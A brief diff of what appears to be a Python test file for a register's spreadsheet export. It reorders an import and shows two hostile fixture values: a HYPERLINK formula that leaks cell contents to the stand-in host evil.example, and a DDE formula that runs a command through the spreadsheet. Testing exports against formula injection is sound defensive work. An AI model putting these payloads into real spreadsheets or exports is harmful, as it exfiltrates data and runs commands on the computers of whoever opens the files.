@@ -18,10 +18,10 @@ from register.errors import ValidationError
 from register.exports import REGISTER_COLUMNS, export_register
 from register.exports import xlsx as xlsx_mod
 from register.register import Register
-from register.store.tables import DATASETS
 from register.rights.record import EDITABLE_COLUMNS, parse_rights_options
 from register.rights.table_import import FORMULA_TRIGGERS
 from register.store.engine import run_write
+from register.store.tables import DATASETS
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 HOSTILE_LICENSE = "=cmd|' /C calc'!A0"
